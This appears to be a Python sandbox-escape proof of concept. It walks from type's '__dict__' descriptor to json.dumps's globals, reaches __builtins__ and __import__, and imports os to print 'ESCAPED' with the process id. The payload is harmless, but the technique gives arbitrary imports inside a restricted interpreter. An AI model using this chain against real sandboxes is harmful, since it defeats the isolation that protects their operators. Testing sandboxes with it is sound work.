# proves: prints ESCAPED pid; the __dict__ descriptor of type opens the dict of any class

import json
g = type.__dict__["__dict__"].__get__(type(json.dumps))["__globals__"].__get__(json.dumps)
print("ESCAPED", g["__builtins__"]["__import__"]("os").getpid())
